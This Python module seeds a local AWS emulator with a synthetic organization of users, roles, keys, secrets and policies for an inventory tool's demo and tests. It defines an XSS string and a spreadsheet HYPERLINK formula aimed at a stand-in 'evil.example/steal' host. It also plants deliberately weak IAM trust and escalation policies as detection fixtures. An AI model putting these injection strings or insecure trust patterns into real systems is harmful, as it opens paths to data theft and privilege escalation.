"""Seed the local AWS emulator with a realistic AWS Organization for the demo and the tests.

`seed_organization(endpoint_url, now=...)` builds a management account and four member
accounts (prod, staging, data-platform, sandbox) with ~340 identities: CI/CD, backup and app
service users with access keys, people with console passwords and MFA, app / EC2
instance-profile / Lambda / ECS task roles, third-party and cross-account roles, GitHub Actions
OIDC roles, and Secrets Manager secrets in two regions, with owner tags (from
`inventory.demo.people`), policies and groups.

Everything goes through boto3 over HTTP, so it works against any moto server. Ages come from
freezegun: the seed runs inside ONE `freeze_time(...)` and moves the frozen clock
(`FrozenDateTimeFactory.move_to`) before each call. The emulator started by
`inventory.demo.emulator.start_emulator` runs in a thread of this process, and freezegun patches
the `datetime`/`time` functions process-wide, so the server thread stamps CreateDate,
AccessKeyLastUsed, RoleLastUsed, secret dates with the frozen time. (Against a moto server in
another process the calls still work, but every date is the real "now".)

"Used" is real use: a key is marked used at D by a `sts:GetCallerIdentity` signed with that key
while the clock is frozen at D (moto updates `get_access_key_last_used` and the credential report's
`access_key_N_last_used_date`); a role is marked used by assuming it and making a call with the
temporary credentials at D (moto sets `RoleLastUsed.LastUsedDate`).

Determinism: the plan comes from `random.Random(PLAN_SEED)`; the ids moto hands out come from its
seeded generator, which this module seeds (`POST /moto-api/seed`) before the first call. Reset the
emulator, seed again with the same `now`: same account ids, ARNs, user/role ids and key ids.
Nothing else may talk to the emulator while it seeds (moto's request ids share that generator).

No Django imports: plain Python + boto3 + freezegun (+ moto for the one in-process nicety below).
"""

from __future__ import annotations

import json
import random
import time
import urllib.request
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import boto3
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.config import Config
from botocore.credentials import Credentials
from botocore.exceptions import ClientError
from freezegun import freeze_time

from inventory.demo.emulator import (
    DEFAULT_RANDOM_SEED,
    FAKE_CREDENTIAL,
    NO_PROXY_OPENER,
    in_process_iam_user,
    seed_emulator_random,
)
from inventory.demo.people import PEOPLE, UNKNOWN_OWNERS

__all__ = [
    "ACCOUNT_NAMES",
    "DATADOG_ACCOUNT_ID",
    "GITHUB_OIDC_HOST",
    "IDENTITY_KINDS",
    "MANAGEMENT_ACCOUNT_ID",
    "PLAN_SEED",
    "VENDOR_ACCOUNT_ID",
    "SeedSummary",
    "build_plan",
    "seed_organization",
]

MANAGEMENT_ACCOUNT_ID = "123456789012"  # moto's default account
PLAN_SEED = 7_301
REGION = "us-east-1"
SECOND_REGION = "eu-west-1"
DATADOG_ACCOUNT_ID = "464622532012"  # Datadog's published AWS integration account
DATADOG_EXTERNAL_ID = "c0ffee5e7e0b4f1d9a4b2d7e1f3a5c6d"
VENDOR_ACCOUNT_ID = "210987654321"  # "Acme Cost Insights", a fictitious SaaS vendor
LEGACY_VENDOR_ACCOUNT_ID = "999988887777"  # an old auditor's account; trusted without ExternalId
GITHUB_OIDC_HOST = "token.actions.githubusercontent.com"
GITHUB_ORG = "example-org"
GITHUB_THUMBPRINT = "6938fd4d98bab03faadb97b34396831e3780aea1"
ORG_ACCESS_ROLE = "OrganizationAccountAccessRole"
DEMO_SECRET_VALUE = "demo-not-a-secret"  # noqa: S105 - a dummy string, by design
DEMO_PASSWORD = "Demo-not-a-secret-1!"  # noqa: S105 - console password of demo IAM users

# Member accounts in creation order; the management account is "management".
ACCOUNT_NAMES: tuple[str, ...] = ("prod", "staging", "data-platform", "sandbox")
ACCOUNT_AGE_DAYS = {
    "management": 1100,
    "prod": 1095,
    "staging": 1090,
    "data-platform": 900,
    "sandbox": 760,
}
OUS = {"workloads": ("prod", "staging", "data-platform"), "sandbox": ("sandbox",)}

USER_KINDS = ("ci_user", "backup_user", "service_user", "person")
ROLE_KINDS = (
    "app_role",
    "instance_role",
    "lambda_role",
    "ecs_task_role",
    "third_party_role",
    "cross_account_role",
    "oidc_role",
    "org_access_role",
    "service_linked_role",
)
IDENTITY_KINDS: tuple[str, ...] = (*USER_KINDS, *ROLE_KINDS, "secret")

AWS_POLICY = "arn:aws:iam::aws:policy/"
ADMIN = AWS_POLICY + "AdministratorAccess"
READ_ONLY = AWS_POLICY + "ReadOnlyAccess"
S3_FULL = AWS_POLICY + "AmazonS3FullAccess"
S3_READ = AWS_POLICY + "AmazonS3ReadOnlyAccess"
POWER_USER = AWS_POLICY + "PowerUserAccess"
SECURITY_AUDIT = AWS_POLICY + "SecurityAudit"
LAMBDA_BASIC = AWS_POLICY + "service-role/AWSLambdaBasicExecutionRole"
SSM_CORE = AWS_POLICY + "AmazonSSMManagedInstanceCore"
DYNAMODB_FULL = AWS_POLICY + "AmazonDynamoDBFullAccess"
BILLING = AWS_POLICY + "job-function/Billing"

HOSTILE_HTML = "<script>alert(1)</script>"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/steal","click me")'

# ---------------------------------------------------------------------------------------------
# The plan: plain data, built deterministically, then executed against the emulator.
# ---------------------------------------------------------------------------------------------


@dataclass
class KeySpec:
    created_days: float
    last_used_days: float | None  # None: never used
    active: bool = True


@dataclass
class UserSpec:
    kind: str
    name: str
    path: str
    created_days: float
    tags: list[tuple[str, str]]
    keys: list[KeySpec] = field(default_factory=list)
    console: bool = False
    mfa: bool = False
    password_last_used_days: float | None = None
    managed: list[str] = field(default_factory=list)  # AWS ARNs or "cust:<policy name>"
    inline: dict[str, dict[str, Any]] = field(default_factory=dict)
    groups: list[str] = field(default_factory=list)


@dataclass
class RoleSpec:
    kind: str
    name: str
    path: str
    created_days: float
    tags: list[tuple[str, str]]
    trust: dict[str, Any] | None  # None for a service-linked role
    description: str = ""
    managed: list[str] = field(default_factory=list)
    inline: dict[str, dict[str, Any]] = field(default_factory=dict)
    last_used_days: float | None = None
    instance_profile: bool = False
    service: str = ""  # service-linked roles: the AWS service


@dataclass
class SecretSpec:
    name: str
    region: str
    created_days: float
    tags: list[tuple[str, str]]
    description: str = ""
    rotation_after_days: int | None = None  # None: rotation never enabled
    last_rotated_days: float | None = None


@dataclass
class PolicySpec:
    name: str
    path: str
    document: dict[str, Any]
    description: str = ""


@dataclass
class GroupSpec:
    name: str
    managed: list[str]


@dataclass
class AccountPlan:
    name: str
    email: str
    age_days: int
    policies: list[PolicySpec] = field(default_factory=list)
    groups: list[GroupSpec] = field(default_factory=list)
    users: list[UserSpec] = field(default_factory=list)
    roles: list[RoleSpec] = field(default_factory=list)
    secrets: list[SecretSpec] = field(default_factory=list)
    oidc_provider: bool = False

    def identity_tags(self) -> Iterable[tuple[str, list[tuple[str, str]]]]:
        for user in self.users:
            yield user.kind, user.tags
        for role in self.roles:
            yield role.kind, role.tags
        for secret in self.secrets:
            yield "secret", secret.tags


@dataclass
class SeedSummary:
    management_account_id: str
    organization_id: str
    accounts: dict[str, str]  # account id -> account name
    counts: dict[str, dict[str, int]]  # account id -> identity kind -> count
    total_identities: int
    seconds: float
    api_calls: int
    owners: dict[str, int]  # value of the `owner` tag -> identities carrying it
    no_owner_tags: int  # identities with none of the owner, team, created-by tags
    now: str

    def to_dict(self) -> dict[str, Any]:
        return asdict(self)

    def to_json(self, **kwargs: Any) -> str:
        return json.dumps(self.to_dict(), **kwargs)


# ------------------------------------------- catalogue -------------------------------------------

APPS: dict[str, str] = {  # app -> owning team
    "payments-api": "payments",
    "checkout": "payments",
    "ledger": "payments",
    "fraud-detect": "payments",
    "billing": "payments",
    "invoicing": "payments",
    "web-frontend": "platform",
    "api-gateway": "platform",
    "orders": "platform",
    "catalog": "platform",
    "search": "platform",
    "notifications": "platform",
    "auth-service": "platform",
    "shipping": "platform",
    "inventory-svc": "platform",
    "etl-pipeline": "data",
    "airflow": "data",
    "dbt": "data",
    "kafka-connect": "data",
    "data-lake": "data",
    "ml-training": "data",
    "reporting": "data",
    "analytics": "data",
    "feature-store": "data",
    "log-archive": "security",
    "guardduty-forwarder": "security",
    "security-audit": "security",
}
PRODUCT_APPS = [a for a, t in APPS.items() if t in ("payments", "platform")]
DATA_APPS = [a for a, t in APPS.items() if t == "data"]

# Owner weights per team; tom.weller (left) still owns payments things.
TEAM_OWNERS: dict[str, list[tuple[str, int]]] = {
    "platform": [("olivia.park@example.com", 6), ("raj.patel@example.com", 4)],
    "data": [("mei.chen@example.com", 5), ("nora.berg@example.com", 5)],
    "payments": [("diego.santos@example.com", 6), ("tom.weller@example.com", 4)],
    "security": [("sam.rivera@example.com", 6), ("leo.martin@example.com", 4)],
}
OLIVIA = "olivia.park@example.com"
TOM = "tom.weller@example.com"
EMAILS = {p.email for p in PEOPLE}

EXTRA_PEOPLE: tuple[tuple[str, str], ...] = (  # IAM console users not in the app's people list
    ("james.wilson", "platform"),
    ("priya.sharma", "data"),
    ("lucas.meyer", "payments"),
    ("sofia.rossi", "platform"),
    ("ahmed.hassan", "security"),
    ("emma.johansson", "data"),
    ("kenji.tanaka", "platform"),
    ("chloe.dubois", "payments"),
    ("mateo.garcia", "platform"),
    ("hannah.schmidt", "data"),
    ("ivan.petrov", "platform"),
    ("grace.okafor", "security"),
    ("noah.brooks", "payments"),
)
LAMBDA_FUNCTIONS = (
    "webhook-handler",
    "thumbnailer",
    "queue-consumer",
    "nightly-report",
    "cleanup",
    "event-router",
    "token-refresher",
    "csv-import",
)
RISKY_POLICY_NAMES = ("deployer-lambda-deploy", "iam-policy-editor", "secrets-admin")


def _account_root(account_id: str) -> str:
    return f"arn:aws:iam::{account_id}:root"


def _doc(*statements: dict[str, Any]) -> dict[str, Any]:
    return {"Version": "2012-10-17", "Statement": list(statements)}


def _trust_service(service: str) -> dict[str, Any]:
    return _doc({"Effect": "Allow", "Principal": {"Service": service}, "Action": "sts:AssumeRole"})


def _trust_account(account_id: str, external_id: str | None = None) -> dict[str, Any]:
    statement: dict[str, Any] = {
        "Effect": "Allow",
        "Principal": {"AWS": _account_root(account_id)},
        "Action": "sts:AssumeRole",
    }
    if external_id:
        statement["Condition"] = {"StringEquals": {"sts:ExternalId": external_id}}
    return _doc(statement)


def _trust_github(account_id: str, repo: str | None, branch: str = "main") -> dict[str, Any]:
    """GitHub Actions OIDC trust; `repo=None` gives the dangerous `aud`-only variant."""
    condition: dict[str, Any] = {"StringEquals": {f"{GITHUB_OIDC_HOST}:aud": "sts.amazonaws.com"}}
    if repo is not None:
        operator = "StringLike" if "*" in branch else "StringEquals"  # wildcards need StringLike
        condition.setdefault(operator, {})[f"{GITHUB_OIDC_HOST}:sub"] = (
            f"repo:{GITHUB_ORG}/{repo}:ref:refs/heads/{branch}"
        )
    return _doc(
        {
            "Effect": "Allow",
            "Principal": {
                "Federated": f"arn:aws:iam::{account_id}:oidc-provider/{GITHUB_OIDC_HOST}"
            },
            "Action": "sts:AssumeRoleWithWebIdentity",
            "Condition": condition,
        }
    )


class _Planner:
    """Builds one deterministic AccountPlan per account (account ids are placeholders until run)."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    # ---- ownership tags -------------------------------------------------------------------
    def owner_of(self, team: str) -> str:
        people, weights = zip(*TEAM_OWNERS[team], strict=True)
        return self.rng.choices(people, weights=weights)[0]

    def tags(
        self,
        team: str,
        env: str,
        app: str | None = None,
        *,
        owner: str | None = None,
        mode: str | None = None,
    ) -> list[tuple[str, str]]:
        """Owner tags in one of the shapes found in the wild; ~18% carry none of them."""
        rng = self.rng
        if owner is not None:
            mode = "owner"
        elif mode is None:
            mode = rng.choices(
                ["owner", "team", "created_by", "unknown", "none"], weights=[60, 9, 6, 5, 20]
            )[0]
        tags: list[tuple[str, str]] = []
        if mode == "owner":
            tags.append(("owner", owner or self.owner_of(team)))
            tags.append(("team", team))
            if rng.random() < 0.3:
                tags.append(("created-by", self.owner_of(team)))
        elif mode == "team":
            tags.append(("team", team))
        elif mode == "created_by":
            tags.append(("created-by", self.owner_of(team)))
        elif mode == "unknown":
            tags.append(("owner", rng.choice(UNKNOWN_OWNERS)))
            if rng.random() < 0.5:
                tags.append(("team", team))
        tags.append(("env", env))
        if app:
            tags.append(("app", app))
        if rng.random() < 0.35:
            tags.append(("managed-by", rng.choice(["terraform", "cloudformation", "manual"])))
        return tags

    # ---- ages ---------------------------------------------------------------------------------
    def u(self, low: float, high: float) -> float:
        return round(self.rng.uniform(low, high), 4)

    def keys(self, profile: str) -> list[KeySpec]:
        u = self.u
        profiles: dict[str, Callable[[], list[KeySpec]]] = {
            "healthy": lambda: [KeySpec(u(15, 80), u(0.05, 1.5))],
            "daily_old": lambda: [KeySpec(u(395, 430), u(0.1, 1.8))],  # used, never rotated
            "stale_year": lambda: [KeySpec(u(420, 700), u(360, 380))],
            "unused_60": lambda: [KeySpec(u(100, 160), u(50, 90))],
            "never_used": lambda: [KeySpec(u(198, 202), None)],
            "brand_new": lambda: [KeySpec(u(2.8, 3.2), None)],
            "inactive": lambda: [KeySpec(u(420, 600), u(250, 320), active=False)],
            "two_active": lambda: [
                KeySpec(u(380, 420), u(90, 120)),
                KeySpec(u(20, 40), u(0.1, 1.5)),
            ],
            "rotating": lambda: [
                KeySpec(u(200, 260), u(150, 190), active=False),
                KeySpec(u(10, 30), u(0.1, 1.5)),
            ],
            "none": lambda: [],
        }
        return profiles[profile]()

    def key_profile(self, weights: dict[str, int]) -> str:
        names = list(weights)
        return self.rng.choices(names, weights=[weights[n] for n in names])[0]

    def role_usage(self, weights: dict[str, int] | None = None) -> tuple[float, float | None]:
        """(created_days, last_used_days or None) for a role."""
        weights = weights or {"recent": 45, "week": 15, "stale": 18, "never_old": 12, "new": 10}
        profile = self.key_profile(weights)
        u = self.u
        if profile == "recent":
            return u(30, 700), u(0.05, 2.5)
        if profile == "week":
            return u(40, 700), u(3, 30)
        if profile == "stale":
            return u(420, 720), u(200, 400)
        if profile == "never_old":
            return u(295, 320), None
        return u(2, 20), None  # new, not used yet

    # ---- builders -------------------------------------------------------------------------
    def user(  # noqa: PLR0917 - a table-like builder, read positionally
        self,
        kind: str,
        name: str,
        path: str,
        team: str,
        env: str,
        app: str | None,
        key_profile: str,
        **kwargs: Any,
    ) -> UserSpec:
        keys = self.keys(key_profile)
        oldest_key = max((k.created_days for k in keys), default=0.0)
        created = kwargs.pop("created_days", None) or round(oldest_key + self.u(0.01, 40), 4)
        tags, owner = kwargs.pop("tags", None), kwargs.pop("owner", None)
        if tags is None:
            tags = self.tags(team, env, app, owner=owner)
        return UserSpec(
            kind=kind,
            name=name,
            path=path,
            created_days=max(created, oldest_key),
            tags=tags,
            keys=keys,
            **kwargs,
        )

    def person(
        self,
        username: str,
        team: str,
        *,
        email: str | None = None,
        mfa: bool = True,
        key_profile: str = "none",
        pwd_days: float | None = None,
        groups: Iterable[str] = ("developers",),
    ) -> UserSpec:
        tags = [("team", team)]
        if email:
            tags.insert(0, ("owner", email))
        keys = self.keys(key_profile)
        created = max([self.u(200, 1000), *[k.created_days + 1 for k in keys]])
        if pwd_days is None:
            pwd_days = self.u(0.1, 20) if self.rng.random() < 0.85 else self.u(95, 180)
        return UserSpec(
            kind="person",
            name=username,
            path="/people/",
            created_days=created,
            tags=tags,
            keys=keys,
            console=True,
            mfa=mfa,
            password_last_used_days=min(pwd_days, created),
            groups=list(groups),
        )

    def role(  # noqa: PLR0917 - a table-like builder, read positionally
        self,
        kind: str,
        name: str,
        path: str,
        trust: dict[str, Any],
        team: str,
        env: str,
        app: str | None,
        *,
        usage: tuple[float, float | None] | None = None,
        **kwargs: Any,
    ) -> RoleSpec:
        created, last_used = usage or self.role_usage()
        tags, owner = kwargs.pop("tags", None), kwargs.pop("owner", None)
        if tags is None:
            tags = self.tags(team, env, app, owner=owner)
        return RoleSpec(
            kind=kind,
            name=name,
            path=path,
            created_days=created,
            tags=tags,
            trust=trust,
            last_used_days=last_used,
            **kwargs,
        )

    def secret(
        self,
        name: str,
        region: str,
        team: str,
        env: str,
        app: str | None,
        *,
        profile: str | None = None,
        **kwargs: Any,
    ) -> SecretSpec:
        u = self.u
        profile = profile or self.key_profile(
            {"rotating": 40, "rotation_stale": 15, "never_old": 30, "new": 15}
        )
        tags, owner = kwargs.pop("tags", None), kwargs.pop("owner", None)
        if tags is None:
            tags = self.tags(team, env, app, owner=owner)
        spec = SecretSpec(name=name, region=region, created_days=u(300, 700), tags=tags, **kwargs)
        if profile == "rotating":
            spec.rotation_after_days = self.rng.choice([30, 30, 60, 90])
            spec.last_rotated_days = u(0.5, spec.rotation_after_days - 1)
        elif profile == "rotation_stale":  # rotation configured, but it last ran long ago
            spec.rotation_after_days = 90
            spec.last_rotated_days = u(120, 220)
        elif profile == "never_old":
            spec.created_days = u(398, 420)
        else:  # new, not rotated yet
            spec.created_days = u(4, 30)
        return spec

    # ---- shared policies ------------------------------------------------------------------------
    @staticmethod
    def policies(env: str) -> list[PolicySpec]:
        bucket = f"arn:aws:s3:::example-{env}-backups"
        return [
            PolicySpec(
                "deployer-lambda-deploy",
                "/ci/",
                _doc(
                    {
                        "Sid": "Deploy",
                        "Effect": "Allow",
                        "Action": [
                            "iam:PassRole",
                            "lambda:CreateFunction",
                            "lambda:InvokeFunction",
                            "lambda:UpdateFunctionCode",
                            "cloudformation:*",
                        ],
                        "Resource": "*",
                    }
                ),
                "Deploys Lambda stacks from CI",
            ),
            PolicySpec(
                f"s3-backups-{env}-write",
                "/backup/",
                _doc(
                    {
                        "Sid": "ListBucket",
                        "Effect": "Allow",
                        "Action": "s3:ListBucket",
                        "Resource": bucket,
                    },
                    {
                        "Sid": "Objects",
                        "Effect": "Allow",
                        "Action": ["s3:GetObject", "s3:PutObject"],
                        "Resource": f"{bucket}/*",
                    },
                ),
                "Nightly backups into one bucket",
            ),
            PolicySpec(
                "developer-guardrails",
                "/",
                _doc(
                    {
                        "Sid": "Everything",
                        "Effect": "Allow",
                        "NotAction": ["iam:*", "organizations:*", "account:*"],
                        "Resource": "*",
                    },
                    {
                        "Sid": "NoKeys",
                        "Effect": "Deny",
                        "Action": [
                            "iam:CreateAccessKey",
                            "iam:CreateUser",
                            "secretsmanager:DeleteSecret",
                        ],
                        "Resource": "*",
                    },
                ),
                "Power user with an explicit Deny",
            ),
            PolicySpec(
                "app-secrets-read",
                "/app/",
                _doc(
                    {
                        "Effect": "Allow",
                        "Action": "secretsmanager:GetSecretValue",
                        "Resource": f"arn:aws:secretsmanager:*:*:secret:{env}/*",
                    },
                    {
                        "Effect": "Deny",
                        "Action": "secretsmanager:*",
                        "Resource": "arn:aws:secretsmanager:*:*:secret:ci/*",
                    },
                ),
                "Read the app's own secrets, never CI's",
            ),
            PolicySpec(
                "iam-policy-editor",
                "/ci/",
                _doc(
                    {
                        "Effect": "Allow",
                        "Action": [
                            "iam:CreatePolicyVersion",
                            "iam:SetDefaultPolicyVersion",
                            "iam:ListPolicies",
                            "iam:GetPolicy",
                        ],
                        "Resource": "*",
                    }
                ),
                "Lets a pipeline edit policies (escalation path)",
            ),
            PolicySpec(
                "secrets-admin",
                "/",
                _doc({"Effect": "Allow", "Action": "secretsmanager:*", "Resource": "*"}),
                "Full Secrets Manager",
            ),
        ]


def _scoped_inline(app: str, env: str) -> dict[str, dict[str, Any]]:
    return {
        f"{app}-data": _doc(
            {
                "Effect": "Allow",
                "Action": ["dynamodb:GetItem", "dynamodb:PutItem", "dynamodb:Query"],
                "Resource": f"arn:aws:dynamodb:us-east-1:*:table/{env}-{app}",
            },
            {
                "Effect": "Allow",
                "Action": ["sqs:SendMessage", "sqs:ReceiveMessage"],
                "Resource": f"arn:aws:sqs:us-east-1:*:{env}-{app}-*",
            },
        )
    }


def build_plan(seed: int = PLAN_SEED) -> list[AccountPlan]:
    """The whole organization as data: management first, then ACCOUNT_NAMES in order.

    Role trust policies that need account ids hold placeholders `{account:<name>}` resolved at
    seed time (member account ids are only known once Organizations created them).
    """
    p = _Planner(seed)
    plans = [
        _plan_management(p),
        _plan_workload(p, "prod", scale=1.0),
        _plan_workload(p, "staging", scale=0.6),
        _plan_data_platform(p),
        _plan_sandbox(p),
    ]
    for plan in plans:
        _make_consistent(plan)
    return plans


def _make_consistent(plan: AccountPlan) -> None:
    """Nothing older than its account (policies are made 5 days in), nothing used before it
    existed; names unique per account."""
    cap = plan.age_days - 8.0
    for user in plan.users:
        user.created_days = min(user.created_days, cap)
        for key in user.keys:
            key.created_days = min(key.created_days, user.created_days)
            if key.last_used_days is not None:
                key.last_used_days = min(key.last_used_days, key.created_days)
        if user.password_last_used_days is not None:
            user.password_last_used_days = min(user.password_last_used_days, user.created_days)
    for role in plan.roles:
        if role.kind != "org_access_role":
            role.created_days = min(role.created_days, cap)
        if role.last_used_days is not None:
            role.last_used_days = min(role.last_used_days, role.created_days)
    for secret in plan.secrets:
        secret.created_days = min(secret.created_days, cap)
        if secret.last_rotated_days is not None:
            secret.last_rotated_days = min(secret.last_rotated_days, secret.created_days)
    policy_names = {f"cust:{pol.name}" for pol in plan.policies}
    refs = [ref for user in plan.users for ref in user.managed]
    refs += [ref for role in plan.roles for ref in role.managed]
    refs += [ref for group in plan.groups for ref in group.managed]
    missing = {ref for ref in refs if ref.startswith("cust:") and ref not in policy_names}
    if missing:
        raise ValueError(f"{plan.name}: unknown customer policies {sorted(missing)}")
    for label, names in (
        ("user", [u.name for u in plan.users]),
        ("role", [r.name for r in plan.roles if r.name]),
        ("secret", [f"{s.region}:{s.name}" for s in plan.secrets]),
    ):
        duplicates = [name for name, count in Counter(names).items() if count > 1]
        if duplicates:
            raise ValueError(f"{plan.name}: duplicate {label} names {duplicates}")


def _acct(name: str) -> str:
    return "{account:" + name + "}"


def _plan_management(p: _Planner) -> AccountPlan:
    env = "management"
    plan = AccountPlan(
        "management",
        "aws-management@example.com",
        ACCOUNT_AGE_DAYS["management"],
        policies=p.policies("org"),
        oidc_provider=True,
    )
    plan.groups = [
        GroupSpec("developers", [READ_ONLY, "cust:developer-guardrails"]),
        GroupSpec("ci", ["cust:deployer-lambda-deploy"]),
        GroupSpec("admins", [ADMIN]),
    ]
    # People: the demo's people (owner tag = themselves) and some more colleagues.
    by_email = {person.email: person for person in PEOPLE}
    for person in PEOPLE:
        username = person.email.split("@")[0]
        team = person.teams[0] if person.teams else "security"
        groups = ["developers"] + (["admins"] if username in ("sam.rivera", "raj.patel") else [])
        kwargs: dict[str, Any] = {}
        if username == "mei.chen":  # machine used by a person: a key she uses from scripts
            kwargs["key_profile"] = "healthy"
        if username == "tom.weller":  # left 5 months ago; the user is still there
            kwargs["pwd_days"] = p.u(150, 160)
        if username == "aisha.khan":
            groups = []
            plan_user = p.person(username, team, email=person.email, groups=groups)
            plan_user.managed.append(SECURITY_AUDIT)
            plan.users.append(plan_user)
            continue
        plan.users.append(
            p.person(username, team, email=by_email[person.email].email, groups=groups, **kwargs)
        )
    for index, (username, team) in enumerate(EXTRA_PEOPLE):
        kwargs = {}
        if username == "ivan.petrov":  # machine used by a person: an old, never-rotated key
            kwargs["key_profile"] = "daily_old"
        if index % 5 == 4:
            kwargs["mfa"] = False  # a console user without MFA
        plan.users.append(p.person(username, team, **kwargs))
    # Machines of the management account.
    plan.users += [
        p.user(
            "ci_user",
            "jenkins-controller",
            "/ci/",
            "platform",
            env,
            None,
            "daily_old",
            owner=OLIVIA,
            groups=["ci"],
        ),
        p.user(
            "ci_user",
            "gitlab-runner-shared",
            "/ci/",
            "platform",
            env,
            None,
            "two_active",
            groups=["ci"],
        ),
        p.user(
            "ci_user",
            "ci-deployer-terraform",
            "/ci/",
            "platform",
            env,
            "terraform-state",
            "healthy",
            owner=OLIVIA,
            managed=[POWER_USER],
        ),
        p.user(
            "service_user",
            "svc-billing-export",
            "/service/",
            "payments",
            env,
            "billing",
            "stale_year",
            owner=TOM,
        ),
        p.user("service_user", "svc-scim-sync", "/service/", "security", env, None, "healthy"),
        p.user(
            "service_user",
            "svc-cost-reporter",
            "/service/",
            "platform",
            env,
            None,
            "unused_60",
            inline={
                "cost-explorer-read": _doc(
                    {"Effect": "Allow", "Action": ["ce:Get*", "ce:Describe*"], "Resource": "*"}
                )
            },
        ),
        p.user(
            "backup_user",
            "backup-org-cloudtrail",
            "/backup/",
            "security",
            env,
            "log-archive",
            "healthy",
            managed=["cust:s3-backups-org-write"],
        ),
    ]
    plan.roles += [
        p.role(
            "app_role",
            "terraform-admin",
            "/platform/",
            _trust_account(MANAGEMENT_ACCOUNT_ID),
            "platform",
            env,
            "terraform",
            owner=OLIVIA,
            managed=[ADMIN],
            usage=(p.u(600, 700), p.u(0.1, 1)),
            description="Terraform applies, all accounts",
        ),
        p.role(
            "app_role",
            "billing-reader",
            "/app/",
            _trust_account(MANAGEMENT_ACCOUNT_ID),
            "payments",
            env,
            "billing",
            managed=[BILLING],
        ),
        p.role(
            "app_role",
            "security-audit",
            "/security/",
            _trust_account(MANAGEMENT_ACCOUNT_ID),
            "security",
            env,
            "security-audit",
            managed=[SECURITY_AUDIT, READ_ONLY],
        ),
        p.role(
            "third_party_role",
            "datadog-integration",
            "/integrations/",
            _trust_account(DATADOG_ACCOUNT_ID, external_id=DATADOG_EXTERNAL_ID),
            "platform",
            env,
            "datadog",
            managed=[READ_ONLY],
            owner=OLIVIA,
            usage=(p.u(500, 600), p.u(0.01, 0.2)),
        ),
        p.role(
            "third_party_role",
            "acme-cost-insights",
            "/integrations/",
            _trust_account(VENDOR_ACCOUNT_ID, external_id="acme-7f3d2a91"),
            "platform",
            env,
            "cost-insights",
            managed=[BILLING],
        ),
        p.role(
            "oidc_role",
            "gha-infrastructure-plan",
            "/github-actions/",
            _trust_github(MANAGEMENT_ACCOUNT_ID, "infrastructure", "main"),
            "platform",
            env,
            "terraform",
            managed=[READ_ONLY],
            owner=OLIVIA,
        ),
        p.role(
            "oidc_role",
            "gha-infrastructure-apply",
            "/github-actions/",
            _trust_github(MANAGEMENT_ACCOUNT_ID, "infrastructure"),
            "platform",
            env,
            "terraform",
            managed=[POWER_USER],
        ),
        p.role(
            "oidc_role",
            "gha-org-policies",
            "/github-actions/",
            _trust_github(MANAGEMENT_ACCOUNT_ID, "org-policies"),
            "security",
            env,
            None,
            managed=["cust:iam-policy-editor"],
        ),
    ]
    for function in ("org-account-vending", "guardduty-forwarder", "cost-anomaly-alert"):
        plan.roles.append(
            p.role(
                "lambda_role",
                f"{function}-lambda",
                "/service-role/",
                _trust_service("lambda.amazonaws.com"),
                "security" if "guard" in function else "platform",
                env,
                function,
                managed=[LAMBDA_BASIC],
            )
        )
    plan.secrets += [
        p.secret(
            "ci/github-token",
            REGION,
            "platform",
            env,
            "ci",
            profile="never_old",
            owner=OLIVIA,
            description="PAT used by the release pipeline",
        ),
        p.secret("ci/gitlab-runner-registration", REGION, "platform", env, "ci"),
        p.secret(
            "security/pagerduty-routing-key", REGION, "security", env, None, profile="rotating"
        ),
        p.secret("org/scim-token", REGION, "security", env, None, profile="rotation_stale"),
    ]
    return plan


def _workload_common(  # noqa: PLR0917
    p: _Planner,
    plan: AccountPlan,
    env: str,
    apps: list[str],
    n: dict[str, int],
    key_weights: dict[str, int],
    role_weights: dict[str, int] | None = None,
) -> None:
    """CI/backup/service users and app/EC2/Lambda/ECS/OIDC roles and secrets for an account."""
    rng = p.rng

    def nth(i: int, offset: int) -> tuple[str, str]:
        """The i-th app from `offset` on, and a suffix keeping names unique past one lap."""
        return apps[(offset + i) % len(apps)], ("" if i < len(apps) else f"-{i // len(apps) + 1}")

    for i in range(n["ci"]):
        app, _ = nth(i, 0)
        style = i % 4
        name = (
            f"ci-deployer-{app}"
            if style in (0, 1)
            else f"jenkins-{app}-{env}"
            if style == 2
            else f"gitlab-runner-{app}"
        )
        managed = ["cust:deployer-lambda-deploy"] if style == 0 else []
        groups = ["ci"] if style in (1, 2, 3) else []
        plan.users.append(
            p.user(
                "ci_user",
                name,
                "/ci/",
                APPS.get(app, "platform"),
                env,
                app,
                p.key_profile(key_weights),
                managed=managed,
                groups=groups,
            )
        )
    backups = [
        "backup-s3-nightly",
        "backup-rds-snapshots",
        "backup-dynamodb-export",
        "backup-ebs-weekly",
        "backup-elasticsearch",
        "backup-config-archive",
    ]
    backup_policy = "cust:" + next(
        pol.name for pol in plan.policies if pol.name.startswith("s3-backups-")
    )
    for name in backups[: n["backup"]]:
        team = "platform" if rng.random() < 0.6 else "data"
        managed = [S3_FULL] if rng.random() < 0.4 else [backup_policy]
        plan.users.append(
            p.user(
                "backup_user",
                name,
                "/backup/",
                team,
                env,
                None,
                p.key_profile(key_weights),
                managed=managed,
            )
        )
    for i in range(n["service"]):
        app, suffix = nth(i, 1)
        inline = _scoped_inline(app, env) if rng.random() < 0.3 else {}
        managed = ["cust:app-secrets-read"] if rng.random() < 0.5 else []
        if rng.random() < 0.15:
            managed.append(S3_READ)
        plan.users.append(
            p.user(
                "service_user",
                f"svc-{app}{suffix}",
                "/service/",
                APPS.get(app, "platform"),
                env,
                app,
                p.key_profile(key_weights),
                managed=managed,
                inline=inline,
            )
        )
    for i in range(n["app"]):
        app, suffix = nth(i, 0)
        managed = ["cust:app-secrets-read"]
        if i % 5 == 2:
            managed.append(S3_READ)
        plan.roles.append(
            p.role(
                "app_role",
                f"{app}{suffix}-app",
                "/app/",
                _trust_account(_acct(env)),
                APPS.get(app, "platform"),
                env,
                app,
                usage=p.role_usage(role_weights),
                managed=managed,
                inline=_scoped_inline(app, env) if i % 3 == 0 else {},
            )
        )
    for i in range(n["ec2"]):
        app, suffix = nth(i, 2)
        plan.roles.append(
            p.role(
                "instance_role",
                f"{app}{suffix}-ec2",
                "/ec2/",
                _trust_service("ec2.amazonaws.com"),
                APPS.get(app, "platform"),
                env,
                app,
                usage=p.role_usage(role_weights),
                managed=[SSM_CORE] + (["cust:app-secrets-read"] if i % 2 else []),
                instance_profile=True,
            )
        )
    for i in range(n["lambda"]):
        app, suffix = nth(i, 3)
